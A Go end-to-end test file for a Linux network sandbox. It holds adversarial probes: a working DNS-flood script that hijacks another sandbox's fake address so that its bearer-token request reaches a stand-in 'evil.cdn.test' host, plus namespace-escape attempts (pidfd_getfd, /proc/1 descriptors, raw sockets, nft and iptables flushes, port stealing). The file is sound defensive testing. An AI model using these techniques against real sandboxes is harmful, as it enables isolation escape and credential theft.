//go:build linux

package e2e

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// The hostile review of transparent capture (issue 11): attacks on srt's
// network namespace, its rules, the capture path and the sandbox's name
// server. Each runs as root and as the unprivileged runner, with a control
// that shows the same probe succeeding where the rule is lifted (or the
// detector seeing what it is meant to see). A test named ...Finding...
// asserts the behaviour a fix must give, and fails until then; the others
// are attacks that held.

// helperBuild is one helper program of these tests (a package under
// srt/internal/e2e), built into bin (world-readable, beside srt-init,
// srt-proxy and decider, where the library finds them) at its first use.
type helperBuild struct {
	once sync.Once
	err  error
}

var helperBuilds sync.Map // name → *helperBuild

func helperBin(t *testing.T, name string) string {
	t.Helper()
	out := filepath.Join(bin, name)
	v, _ := helperBuilds.LoadOrStore(name, &helperBuild{})
	b := v.(*helperBuild)
	b.once.Do(func() {
		build := exec.Command("go", "build", "-o", out, "github.com/srt-sandbox/srt/internal/e2e/"+name)
		build.Env = append(os.Environ(), "CGO_ENABLED=0")
		if msg, err := build.CombinedOutput(); err != nil {
			b.err = fmt.Errorf("building %s: %v\n%s", name, err, msg)
		}
	})
	if b.err != nil {
		t.Fatal(b.err)
	}
	return out
}

// libhost is srt/internal/e2e/libhost: several commands under one library
// Manager, as an agent host runs them.
func libhost(t *testing.T) string { return helperBin(t, "libhost") }

// libhost runs libhost as the runner, in the working directory.
func (w *workspace) libhost(args ...string) result {
	w.t.Helper()
	cmd := w.command(nil)
	cmd.Path, cmd.Args = libhost(w.t), append([]string{libhost(w.t)}, args...)
	return w.run(cmd)
}

// etcCommand prepares program (srt or libhost) as the runner with private
// copies of files under /etc (each bound over its path in a mount
// namespace of its own: /etc/hosts for names that lead to loopback
// servers, /etc/resolv.conf for the resolver srt-proxy asks).
func (w *workspace) etcCommand(files map[string]string, program string, args ...string) *exec.Cmd {
	w.t.Helper()
	binds := map[string]string{}
	i := 0
	for dst, content := range files {
		binds[dst] = w.write(fmt.Sprintf("etc-%d", i), content)
		i++
	}
	return w.bindCommand(binds, program, args...)
}

// bindCommand prepares program as the runner in a mount namespace of its
// own where each host path binds[dst] is bound over dst.
func (w *workspace) bindCommand(binds map[string]string, program string, args ...string) *exec.Cmd {
	w.t.Helper()
	if os.Geteuid() != 0 {
		w.t.Skip("needs root to bind files over the machine's in a mount namespace")
	}
	script := ""
	var srcs []string
	for dst, src := range binds {
		script += fmt.Sprintf(`mount --bind "$%d" %s && `, len(srcs), dst)
		srcs = append(srcs, src)
	}
	inner := []string{program}
	if w.r.uid != 0 {
		inner = []string{"setpriv", "--reuid", strconv.Itoa(w.r.uid), "--regid", strconv.Itoa(w.r.gid), "--clear-groups", "--", program}
	}
	// sh -c SCRIPT $0 $1 …: the sources are the positional parameters, the
	// program and its arguments follow them (shifted to "$@").
	script += fmt.Sprintf(`shift %d; exec "$@"`, len(srcs)-1)
	all := append([]string{"--mount", "--propagation", "private", "--", "sh", "-c", script}, srcs...)
	all = append(all, append(inner, args...)...)
	cmd := exec.Command("unshare", all...)
	cmd.Dir, cmd.Env = w.dir, w.env()
	return cmd
}

// runEtc runs etcCommand's command, at most 90 s.
func (w *workspace) runEtc(files map[string]string, program string, args ...string) result {
	w.t.Helper()
	return w.runBound(w.etcCommand(files, program, args...))
}

// runBound runs a command of bindCommand, at most 90 s.
func (w *workspace) runBound(cmd *exec.Cmd) result {
	w.t.Helper()
	var out, errb syncBuffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Start(); err != nil {
		w.t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(90 * time.Second):
		cmd.Process.Kill()
		<-done
		w.t.Fatalf("%v did not finish in 90 s:\n%s%s", cmd.Args, out.String(), errb.String())
	}
	return result{stdout: out.String(), stderr: errb.String(), code: cmd.ProcessState.ExitCode()}
}

// dnsClient is Python for the sandbox: a client of the sandbox's name
// server (127.0.0.53) that builds its queries by hand, so that any name
// (any bytes in a label) can be asked, and many at once.
const dnsClient = `import socket, struct
def query(name, qid, qtype=1):
    labels = name if isinstance(name, list) else name.rstrip(".").split(".")
    labels = [l if isinstance(l, bytes) else l.encode() for l in labels]
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack(">HH", qtype, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("127.0.0.53", 53))
def ask(name, qtype=1):
    """(rcode, last address or None) of one query"""
    for _ in range(5):
        s.send(query(name, 7, qtype))
        try:
            r = s.recv(4096)
        except socket.timeout:
            continue
        ancount = struct.unpack(">H", r[6:8])[0]
        addr = None
        if ancount and qtype == 1: addr = socket.inet_ntoa(r[-4:])
        if ancount and qtype == 28: addr = socket.inet_ntop(socket.AF_INET6, r[-16:])
        return r[3] & 15, addr
    raise SystemExit("no answer for %r" % (name,))
def lookup(name):
    return ask(name)[1]
def window(names):
    """the A answers of names, sent all at once (lost ones again)"""
    got = {}
    for _ in range(5):
        for i, n in enumerate(names):
            if i not in got: s.send(query(n, i))
        try:
            while len(got) < len(names):
                r = s.recv(512); got[struct.unpack(">H", r[:2])[0]] = socket.inet_ntoa(r[-4:])
        except socket.timeout:
            pass
        if len(got) == len(names): return [got[i] for i in range(len(names))]
    raise SystemExit("answers lost")
`

// hijack is Python for the attacking sandbox: it makes the fake address
// the victim holds for VICTIM_NAME stand for TARGET. It looks up 300
// marker names and then the victim's name (learning its address, and
// making it the newest entry), then floods the table with fresh names
// until it hands out the markers' addresses again: the address after the
// last marker's, in the order the table frees them, is the victim's. It
// needs no network of its own, only the name server every sandbox has.
const hijack = `import sys; sys.path.insert(0, ".")
from dnsclient import *
target, victim = sys.argv[1], sys.argv[2]
markers = ["m%d.marker.test" % i for i in range(300)]
addrs = [lookup(m) for m in markers]
x = lookup(victim)
n, hit = 0, False
while not hit and n < 100000:
    ans = window(["j%d.junk.test" % (n + i) for i in range(100)]); n += 100
    hit = any(a in addrs for a in ans)
while lookup("k%d.junk.test" % n) != addrs[-1] and n < 100000: n += 1
got = lookup(target)
print("attacker: after %d names %s stands at %s, the victim's address for %s was %s" % (n, target, got, victim, x))
`

// identityServer answers HTTP (and, with a certificate, HTTPS) with who
// it is and what it was sent: "served by TAG SCHEME PATH host=HOST
// auth=AUTHORIZATION".
func identityServer(t *testing.T, ln net.Listener, tag string, cert *tls.Certificate) {
	t.Helper()
	if cert != nil {
		ln = tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{*cert}})
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		scheme := "http"
		if r.TLS != nil {
			scheme = "https"
		}
		fmt.Fprintf(rw, "served by %s %s %s host=%s auth=%s\n", tag, scheme, r.URL.Path, r.Host, r.Header.Get("Authorization"))
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
}

// twinListeners listens on 127.0.0.1 and 127.0.0.2 at one port (two hosts
// a name can resolve to, told apart by what they answer).
func twinListeners(t *testing.T) (one, two net.Listener, port int) {
	t.Helper()
	for range 20 {
		a, err := net.Listen("tcp", "127.0.0.2:0")
		if err != nil {
			t.Fatal(err)
		}
		port = a.Addr().(*net.TCPAddr).Port
		b, err := net.Listen("tcp", "127.0.0.1:"+itoa(port))
		if err == nil {
			return b, a, port
		}
		a.Close()
	}
	t.Fatal("no port free on both 127.0.0.1 and 127.0.0.2")
	return nil, nil, 0
}

// TestEscapeCaptureFindingFakeAddressHijack: one sandbox makes the fake
// address another sandbox of the same srt-proxy holds for an allowed
// name stand for a name of its choosing, with DNS queries alone; the
// victim's next connection to that address is decided as, and goes to,
// the attacker's host. Under tlsTerminate (requireHostMatch off, the
// default) the victim's HTTPS client even gets a valid certificate for the
// name it asked for, so its request and credentials go to the attacker's
// host. The fake address table is one for every sandbox of an srt-proxy
// (docs/architecture.md, "Fake addresses"), and a freed address stands for
// another name after 16384 more names, which a sandbox looks up in about
// two seconds.
//
// Control: without the flood the victim reaches app.test's server, and
// the attacker's server is reachable (and told apart) by its own name.
func TestEscapeCaptureFindingFakeAddressHijack(t *testing.T) {
	ca := newTestCA(t, "hijack test CA", false)
	appPlain, evilPlain, pp := twinListeners(t)
	identityServer(t, appPlain, "app", nil)
	identityServer(t, evilPlain, "evil", nil)
	appTLS, evilTLS, pt := twinListeners(t)
	appCert, evilCert := ca.serverCert(t, "app.test"), ca.serverCert(t, "evil.cdn.test")
	identityServer(t, appTLS, "app", &appCert)
	identityServer(t, evilTLS, "evil", &evilCert)
	hosts := "127.0.0.1 localhost\n127.0.0.1 app.test\n127.0.0.2 evil.cdn.test\n"
	// The victim may reach app.test and, say, a CDN's subdomains (where
	// anyone can put a host: *.githubusercontent.com, *.s3.amazonaws.com);
	// the literals exempt the test's loopback servers from the address
	// check.
	allowed := []string{"app.test", "*.cdn.test", "127.0.0.1:" + itoa(pp), "127.0.0.2:" + itoa(pp), "127.0.0.1:" + itoa(pt), "127.0.0.2:" + itoa(pt)}
	victim := `x=$(python3 -c 'import socket; print(socket.getaddrinfo("app.test", 80, socket.AF_INET)[0][4][0])'); echo "$x" > x; ` +
		`for i in $(seq 1200); do [ -e go ] && break; sleep 0.05; done; ` +
		`curl -sS -m 10 --noproxy '*' -H 'Authorization: Bearer victim-secret' --resolve app.test:` + itoa(pp) + `:$x http://app.test:` + itoa(pp) + `/victim-plain; ` +
		`curl -sS -m 10 --noproxy '*' -H 'Authorization: Bearer victim-secret' --resolve app.test:` + itoa(pt) + `:$x https://app.test:` + itoa(pt) + `/victim-tls`
	wait := `for i in $(seq 1200); do [ -e x ] && break; sleep 0.05; done; `
	detector := `; curl -sS -m 10 --noproxy '*' http://evil.cdn.test:` + itoa(pp) + `/detector`
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/dnsclient.py", dnsClient)
		w.write("home/proj/hijack.py", hijack)
		s := w.settings(`{"network":{"allowedDomains":["` + strings.Join(allowed, `","`) + `"],"deniedDomains":[],` +
			`"tlsTerminate":{"extraCaCertPaths":["` + w.write("ca.pem", string(ca.certPEM)) + `"]}},` +
			`"filesystem":{"denyRead":["/etc/hosts"],"allowWrite":["."],"denyWrite":[]}}`)
		files := map[string]string{"/etc/hosts": hosts}
		run := func(attacker string) string {
			os.Remove(w.path("home/proj/x"))
			os.Remove(w.path("home/proj/go"))
			r := w.runEtc(files, libhost(t), s, "-parallel", "victim||"+victim, "attacker||"+wait+attacker+"; touch go"+detector)
			t.Logf("%s", r)
			return r.stdout + r.stderr
		}
		// Control: no flood.
		out := run("true")
		for _, f := range []string{"[victim] served by app http /victim-plain host=app.test:" + itoa(pp) + " auth=Bearer victim-secret",
			"[victim] served by app https /victim-tls host=app.test:" + itoa(pt) + " auth=Bearer victim-secret",
			"[attacker] served by evil http /detector"} {
			if !strings.Contains(out, f) {
				t.Fatalf("control: output lacks %q", f)
			}
		}
		// The attack.
		out = run("python3 hijack.py evil.cdn.test app.test")
		if !strings.Contains(out, "attacker: after") {
			t.Fatalf("the attacker's script did not run to its end")
		}
		if strings.Contains(out, "[victim] served by evil") {
			t.Errorf("FINDING: the victim's connections to the address it was given for app.test went to the host another sandbox chose (evil.cdn.test), credentials included")
		}
		if !strings.Contains(out, "[victim] served by app https /victim-tls") {
			t.Errorf("the victim did not reach app.test")
		}
	})
}

// TestEscapeCaptureFindingLookupSideChannel: one sandbox learns which
// names another sandbox of the same srt-proxy looked up, from the fake
// addresses the shared table gives it: a name already in the table keeps
// its older address, a new one gets the next. Sandbox B's answers must not
// depend on what sandbox A asked.
//
// Control: the measurement is stable: B's answers for names A did not ask
// are the same in both runs.
func TestEscapeCaptureFindingLookupSideChannel(t *testing.T) {
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/dnsclient.py", dnsClient)
		s := w.settings(`{"network":{"allowedDomains":[],"deniedDomains":[]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]}}`)
		probe := `python3 -c 'from dnsclient import *; print("B:", [lookup(n) for n in ("fresh1.test", "secret-a.test", "fresh2.test")])'`
		run := func(aLooksUp string) string {
			r := w.libhost(s, "a||python3 -c 'from dnsclient import *; lookup(\""+aLooksUp+"\")'", "b||"+probe)
			for _, l := range strings.Split(r.stdout, "\n") {
				if strings.HasPrefix(l, "[b] B:") {
					return l
				}
			}
			t.Fatalf("no answer from B:\n%s", r)
			return ""
		}
		looked, notLooked := run("secret-a.test"), run("other-a.test")
		t.Logf("A looked up secret-a.test: %s\nA looked up other-a.test: %s", looked, notLooked)
		if strings.Split(looked, ",")[0] != strings.Split(notLooked, ",")[0] {
			t.Fatalf("control: B's first answer differs between the runs")
		}
		if looked != notLooked {
			t.Errorf("FINDING: sandbox B can tell that sandbox A looked up secret-a.test (its answers differ)")
		}
	})
}

// connectProbe is Python for the sandbox: for each argument
// "LABEL=HOST,PORT" it connects (by address family of HOST; a name is
// looked up first, as a client does), sends a request line and prints
// "LABEL got FIRST-LINE", "LABEL closed" or "LABEL errno N".
const connectProbe = `import socket, sys
for arg in sys.argv[1:]:
    label, _, target = arg.partition("=")
    host, port = target.rsplit(",", 1)
    try:
        fam, _, _, _, addr = socket.getaddrinfo(host, int(port), 0, socket.SOCK_STREAM)[0]
        if host.startswith("fe80::"): addr = (addr[0], addr[1], 0, 1)
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(5)
        s.connect(addr)
        s.sendall(b"GET /" + label.encode() + b" HTTP/1.0\r\nHost: probe\r\n\r\n")
        data = s.recv(200)
        print(label, "got", data.split(b"\r\n")[0].decode()) if data else print(label, "closed")
    except socket.gaierror as e:
        print(label, "gaierror", e.errno)
    except OSError as e:
        print(label, "errno", e.errno)
`

// hitCounter is a loopback TCP service that counts the connections it
// accepts and answers each with a line naming itself.
type hitCounter struct {
	mu   sync.Mutex
	hits []string
	port int
}

func startHitCounter(t *testing.T, name string, addrs ...string) *hitCounter {
	t.Helper()
	h := &hitCounter{}
	for i, a := range addrs {
		ln, err := net.Listen("tcp", net.JoinHostPort(a, itoa(h.port)))
		if err != nil {
			if i == 0 {
				t.Fatal(err)
			}
			t.Logf("no %s listener: %v", a, err)
			continue
		}
		h.port = ln.Addr().(*net.TCPAddr).Port
		t.Cleanup(func() { ln.Close() })
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				buf := make([]byte, 200)
				c.SetReadDeadline(time.Now().Add(2 * time.Second))
				n, _ := c.Read(buf)
				h.mu.Lock()
				h.hits = append(h.hits, c.LocalAddr().String()+" "+strings.SplitN(string(buf[:n]), "\r\n", 2)[0])
				h.mu.Unlock()
				c.Write([]byte("HTTP/1.0 200 " + name + "\r\n\r\n"))
				c.Close()
			}
		}()
	}
	return h
}

func (h *hitCounter) seen() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.hits...)
}

func (h *hitCounter) reset() {
	h.mu.Lock()
	h.hits = nil
	h.mu.Unlock()
}

// probeArgs renders connectProbe's arguments: each address at port.
func probeArgs(port int, addrs ...string) string {
	var b strings.Builder
	for _, a := range addrs {
		fmt.Fprintf(&b, " '%s=%s,%d'", a, a, port)
	}
	return b.String()
}

// loopbackForms are ways to spell the host's loopback, the namespace's own
// addresses, the fake ranges and what no route leads to, from inside.
var loopbackForms = []string{
	"127.0.0.1", "127.0.0.2", "127.255.255.254", "0.0.0.0", "0", "2130706433",
	"198.18.0.1", "198.18.0.2", "198.18.128.1", "198.18.255.255", "198.19.255.255",
	"224.0.0.1", "255.255.255.255",
	"::1", "::", "::ffff:127.0.0.1", "::ffff:127.0.0.2", "::127.0.0.1", "::ffff:0:127.0.0.1",
	"64:ff9b::7f00:1", "2002:7f00:1::1", "fd00:5253::1", "fd00:5253:0:1::1", "fd00:5253:0:1:1::1",
	"fe80::1", "ff02::1",
	"localhost", "x.localhost", "ip6-localhost", "loop.test", "LOOP.TEST.",
}

// TestEscapeCaptureLoopbackForms: a host loopback service whose port no
// allowedDomains entry names is reached by no spelling of an address or
// name: other 127.x addresses, the unspecified address, IPv4-mapped,
// IPv4-compatible, NAT64 and 6to4 forms, the namespace's own 198.18.0.1
// and fd00:5253::1, the fake ranges (taken or not), link-local,
// multicast, broadcast, "localhost" names, and an allowed name that
// resolves to loopback on the host (the resolved-address check). The
// host's service counts what reaches it: nothing.
//
// Controls: the listed port is reached through 127.0.0.1, 0.0.0.0 and
// ::ffff:127.0.0.1, and with the secret port listed the same probe
// reaches the secret service.
func TestEscapeCaptureLoopbackForms(t *testing.T) {
	secret := startHitCounter(t, "secret", "127.0.0.1", "::1")
	open := startHitCounter(t, "open", "127.0.0.1")
	hosts := "127.0.0.1 localhost\n::1 ip6-localhost\n127.0.0.1 loop.test\n"
	cfg := func(allowed ...string) string {
		return `{"network":{"allowedDomains":["` + strings.Join(allowed, `","`) + `"],"deniedDomains":[]},"filesystem":{"denyRead":["/etc/hosts"],"allowWrite":["."],"denyWrite":[]}}`
	}
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/connect.py", connectProbe)
		secret.reset()
		files := map[string]string{"/etc/hosts": hosts}
		s := w.settings(cfg("127.0.0.1:"+itoa(open.port), "loop.test"))
		r := w.runEtc(files, filepath.Join(bin, "srt"), "-s", s, "--show-violations", "-c",
			"python3 connect.py"+probeArgs(secret.port, loopbackForms...)+probeArgs(open.port, "127.0.0.1", "0.0.0.0", "::ffff:127.0.0.1"))
		t.Logf("%s", r)
		if hits := secret.seen(); len(hits) > 0 {
			t.Fatalf("the unlisted host service was reached: %q", hits)
		}
		expect(t, r, 0, "!secret",
			// Decided and refused, with a violation.
			"198.18.0.1 errno 104", "fd00:5253::1 errno 104", "::127.0.0.1 errno 104", "64:ff9b::7f00:1 errno 104",
			"deny network-outbound 198.18.0.1:"+itoa(secret.port)+" (host is not on the allow list)",
			// The fake ranges: an address that stands for no name is
			// refused without asking.
			"198.18.128.1 errno 104", "fd00:5253:0:1:1::1 errno 104", "!deny network-outbound 198.18.128.1",
			// An allowed name resolving to loopback on the host.
			"loop.test errno 104", "LOOP.TEST. errno 104", "loop.test:"+itoa(secret.port)+" (resolved to a loopback address",
			// The sandbox's own loopback: nothing listens there.
			"127.0.0.2 errno 111", "::1 errno 111", "localhost errno 111", "x.localhost errno 111",
			// Controls: the listed port.
			"127.0.0.1 got HTTP/1.0 200 open", "0.0.0.0 got HTTP/1.0 200 open", "::ffff:127.0.0.1 got HTTP/1.0 200 open")
		// Control: listed, the secret port is reached (the counter works).
		s = w.settings(cfg("127.0.0.1:"+itoa(secret.port), "[::1]:"+itoa(secret.port)))
		r = w.runEtc(files, filepath.Join(bin, "srt"), "-s", s, "-c", "python3 connect.py"+probeArgs(secret.port, "127.0.0.1", "::1"))
		expect(t, r, 0, "127.0.0.1 got HTTP/1.0 200 secret")
		if len(secret.seen()) == 0 {
			t.Fatalf("control: the listed secret port was not reached\n%s", r)
		}
	})
}

// bindProbe is Python for the sandbox: for each argument
// "LABEL=PROTO,HOST,PORT,OPTS" (PROTO tcp or udp; OPTS a string of
// r = SO_REUSEADDR, p = SO_REUSEPORT, d = dual-stack IPv6) it binds (and
// listens, for TCP), prints "LABEL bound" or "LABEL errno N", and keeps
// what it bound; then it connects to every address of the arguments after
// "--" (connectProbe's form) and prints what answered, so that a listener
// that took srt's place would show.
const bindProbe = `import socket, sys
held = []
args = sys.argv[1:]
cut = args.index("--") if "--" in args else len(args)
for arg in args[:cut]:
    label, _, spec = arg.partition("=")
    proto, host, port, opts = spec.split(",")
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM)
    if "r" in opts: s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if "p" in opts: s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    if fam == socket.AF_INET6: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0 if "d" in opts else 1)
    try:
        s.bind((host, int(port)))
        if proto == "tcp": s.listen(64)
        s.setblocking(False)
        held.append((label, proto, s)); print(label, "bound")
    except OSError as e:
        print(label, "errno", e.errno)
for arg in args[cut + 1:]:
    label, _, target = arg.partition("=")
    host, port = target.rsplit(",", 1)
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    c = socket.socket(fam, socket.SOCK_STREAM); c.settimeout(5)
    try:
        c.connect((host, int(port))); c.sendall(b"GET /" + label.encode() + b" HTTP/1.0\r\n\r\n")
        d = c.recv(200); print(label, "got", d.split(b"\r\n")[0].decode() if d else "eof")
    except OSError as e:
        print(label, "errno", e.errno)
for label, proto, s in held:
    try:
        if proto == "tcp": s.accept(); print(label, "STOLE a connection")
    except OSError: pass
`

// TestEscapeCaptureStealPorts: nothing inside can take the sockets srt
// made in the namespace (the capture listeners on 0.0.0.0:3129 and
// [::]:3129, the proxies on 127.0.0.1 and ::1, the name server on
// 127.0.0.53:53), with SO_REUSEADDR, SO_REUSEPORT, a more specific
// address (127.0.0.1:3129, the namespace's own 198.18.0.1), or an IPv6
// dual-stack wildcard; and a connection made straight to a capture
// listener (any of its addresses) is reset, nobody asked. Captured
// connections still reach the host afterwards.
//
// Control: the same binds succeed on a free port, and the listed loopback
// port reaches the host's service.
func TestEscapeCaptureStealPorts(t *testing.T) {
	skipOnLandlock(t)
	up := startHitCounter(t, "host-service", "127.0.0.1")
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/bind.py", bindProbe)
		binds := []string{
			"cap-any=tcp,0.0.0.0,3129,rp", "cap-lo=tcp,127.0.0.1,3129,rp", "cap-own=tcp,198.18.0.1,3129,rp",
			"cap6-any=tcp,::,3129,rpd", "cap6-lo=tcp,::1,3129,rp", "cap6-own=tcp,fd00:5253::1,3129,rp",
			"http=tcp,127.0.0.1,3128,rp", "http-any=tcp,0.0.0.0,3128,rp", "http6=tcp,::1,3128,rp", "socks=tcp,127.0.0.1,1080,rp",
			"dns-tcp=tcp,127.0.0.53,53,rp", "dns-udp=udp,127.0.0.53,53,rp", "dns-udp-any=udp,0.0.0.0,53,rp",
			"entry-port=tcp,127.0.0.1," + itoa(up.port) + ",rp",
			// Controls: a free port.
			"free=tcp,127.0.0.1,3130,rp", "free6=tcp,::,3130,rpd", "free-udp=udp,127.0.0.53,5353,rp",
		}
		direct := []string{"direct-lo=127.0.0.1,3129", "direct-lo2=127.0.0.2,3129", "direct-dns-addr=127.0.0.53,3129", "direct-v6=::1,3129",
			"direct-own=198.18.0.1,3129", "listed=127.0.0.1," + itoa(up.port)}
		r := w.sh(netSettings([]string{"127.0.0.1:" + itoa(up.port)}, nil, ""), "cd "+w.dir+" && python3 bind.py '"+strings.Join(binds, "' '")+"' -- '"+strings.Join(direct, "' '")+"'")
		t.Logf("%s", r)
		expect(t, r, 0, "!STOLE",
			"cap-any errno 98", "cap-lo errno 98", "cap-own errno 98", "cap6-any errno 98", "cap6-lo errno 98", "cap6-own errno 98",
			"http errno 98", "http-any errno 98", "http6 errno 98", "socks errno 98",
			"dns-tcp errno 13", "dns-udp errno 13", "dns-udp-any errno 13",
			// The sandbox may listen on a listed port: its own clients'
			// connections to it still go to the host.
			"entry-port bound",
			"free bound", "free6 bound", "free-udp bound",
			"direct-lo errno 104", "direct-lo2 errno 104", "direct-dns-addr errno 104", "direct-v6 errno 104",
			"direct-own errno 104", "listed got HTTP/1.0 200 host-service")
		if !strings.Contains(strings.Join(up.seen(), "\n"), "GET /listed") {
			t.Fatalf("control: the host service did not see the listed connection: %q", up.seen())
		}
	})
}

// nsProbe is Python for the sandbox: what the command could use to change
// its network namespace or leave it. It prints one line per attempt,
// "NAME ok" or "NAME errno N".
const nsProbe = `import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, f):
    try:
        r = f(); print(name, "ok", r if r is not None else "")
    except OSError as e:
        print(name, "errno", e.errno)
def write(path, value):
    with open(path, "w") as f: f.write(value)
for p, v in (("ipv4/ip_unprivileged_port_start", "0"), ("ipv4/ping_group_range", "0 2147483647"),
             ("ipv4/conf/all/route_localnet", "1"), ("ipv4/ip_forward", "1"), ("ipv6/conf/all/disable_ipv6", "1")):
    attempt("read " + p, lambda: open("/proc/sys/net/" + p).read().strip())
    attempt("write " + p, lambda: write("/proc/sys/net/" + p, v))
# The namespaces srt's helper made: the command's descriptors, the init
# stage's (which holds them), its ns files.
def link(f):
    try: return os.readlink("/proc/self/fd/" + f)
    except OSError: return "gone"
print("own fds", sorted(link(f) for f in os.listdir("/proc/self/fd")))
for fd in range(3, 16):
    attempt("open /proc/1/fd/%d" % fd, lambda: os.close(os.open("/proc/1/fd/%d" % fd, os.O_RDONLY)))
attempt("open /proc/1/ns/net", lambda: os.close(os.open("/proc/1/ns/net", os.O_RDONLY)))
attempt("open /proc/1/ns/user", lambda: os.close(os.open("/proc/1/ns/user", os.O_RDONLY)))
def getfd(fd):
    pid = os.pidfd_open(1)
    r = libc.syscall(438, pid, fd, 0)
    if r < 0: raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return os.readlink("/proc/self/fd/%d" % r)
for fd in range(3, 12):
    attempt("pidfd_getfd 1 %d" % fd, lambda: getfd(fd))
# Sockets past TCP and UDP.
for name, args in (("raw", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                   ("raw6", (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
                   ("packet", (socket.AF_PACKET, socket.SOCK_RAW, 0)),
                   ("ping", (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
                   ("ping6", (socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)),
                   ("netlink-netfilter", (socket.AF_NETLINK, socket.SOCK_RAW, 12))):
    attempt("socket " + name, lambda: socket.socket(*args).close())
`

// TestEscapeCaptureNamespace: the command cannot change the network
// namespace srt made, nor reach its descriptors. Sysctls under
// /proc/sys/net are read-only; the helper's namespace descriptors are not
// among the command's, and the init stage's (which holds them) can be
// neither opened through /proc/1/fd nor taken with pidfd_getfd; raw,
// packet and ping sockets are refused; ip, iptables and nft are refused.
// Under allowNestedUserNamespaces a user namespace of the command's own
// holds every capability, but over its own namespaces only: srt's network
// namespace belongs to an ancestor.
//
// Controls: the sysctls read; the same ip commands work in a network
// namespace the command makes itself (allowNestedUserNamespaces); and
// afterwards the rules still hold (a listed port reaches the host's
// service, an unlisted address is reset).
func TestEscapeCaptureNamespace(t *testing.T) {
	skipOnLandlock(t)
	up := startHitCounter(t, "host-service", "127.0.0.1")
	changes := `ip link add d0 type dummy 2>&1; ip link set lo down 2>&1; ip addr del 198.18.0.1/32 dev lo 2>&1; ip route add 10.0.0.0/8 dev lo 2>&1; ip -6 route del default 2>&1; ` +
		`nft flush ruleset 2>&1; echo "nft=$?"; printf '*filter\nCOMMIT\n' | iptables-restore 2>&1; echo "iptables=$?"`
	after := `; python3 connect.py` + probeArgs(up.port, "127.0.0.1") + probeArgs(80, "198.18.0.9")
	forEach(t, func(t *testing.T, w *workspace) {
		w.write("home/proj/ns.py", nsProbe)
		w.write("home/proj/connect.py", connectProbe)
		s := netSettings([]string{"127.0.0.1:" + itoa(up.port)}, nil, "")
		s = strings.Replace(s, `"allowWrite":[]`, `"allowWrite":["."]`, 1)
		r := w.sh(s, "python3 ns.py; "+changes+after)
		t.Logf("%s", r)
		expect(t, r, 0,
			"read ipv4/ip_unprivileged_port_start ok 1024", "write ipv4/ip_unprivileged_port_start errno 30",
			"write ipv4/ping_group_range errno 30", "write ipv4/conf/all/route_localnet errno 30", "write ipv4/ip_forward errno 30",
			"!net:[", "!user:[", "open /proc/1/fd/3 errno 13", "open /proc/1/fd/9 errno 13", "open /proc/1/ns/net errno 13",
			"pidfd_getfd 1 3 errno 1", "pidfd_getfd 1 9 errno 1",
			"socket raw errno 1", "socket raw6 errno 1", "socket packet errno 1", "socket ping errno 13",
			"RTNETLINK answers: Operation not permitted", "nft=1", "iptables=4",
			"127.0.0.1 got HTTP/1.0 200 host-service", "198.18.0.9 errno 104")
		for _, l := range strings.Split(r.stdout, "\n") {
			if strings.Contains(l, " ok") && (strings.HasPrefix(l, "write") || strings.HasPrefix(l, "open /proc/1") || strings.HasPrefix(l, "pidfd_getfd") || strings.HasPrefix(l, "socket raw") || strings.HasPrefix(l, "socket packet")) {
				t.Fatalf("succeeded: %s", l)
			}
		}
		if w.r.uid == 0 {
			return // allowNestedUserNamespaces is refused for root
		}
		n := withTop(s, `"allowNestedUserNamespaces":true`)
		r = w.sh(n, `unshare -Ur sh -c '`+strings.ReplaceAll(changes, `'`, `'"'"'`)+`; echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start; echo "sysctl=$?"'`+
			`; unshare -Urn sh -c 'ip link set lo up && ip route add 10.0.0.0/8 dev lo && echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start && echo own-netns-changed'`+after)
		t.Logf("nested: %s", r)
		expect(t, r, 0, "RTNETLINK answers: Operation not permitted", "nft=1", "iptables=4", "sysctl=2", "ip_unprivileged_port_start: Permission denied",
			"own-netns-changed", "127.0.0.1 got HTTP/1.0 200 host-service", "198.18.0.9 errno 104")
	})
}

// dnsRecorder is a name server on the host's loopback (the resolver srt
// and srt-proxy use, through a private /etc/resolv.conf) that records
// every name it is asked. It answers the names of answers with 127.0.0.1
// (A) and no data (AAAA), and every other name NXDOMAIN.
type dnsRecorder struct {
	addr    string
	answers map[string]bool
	mu      sync.Mutex
	names   []string
}

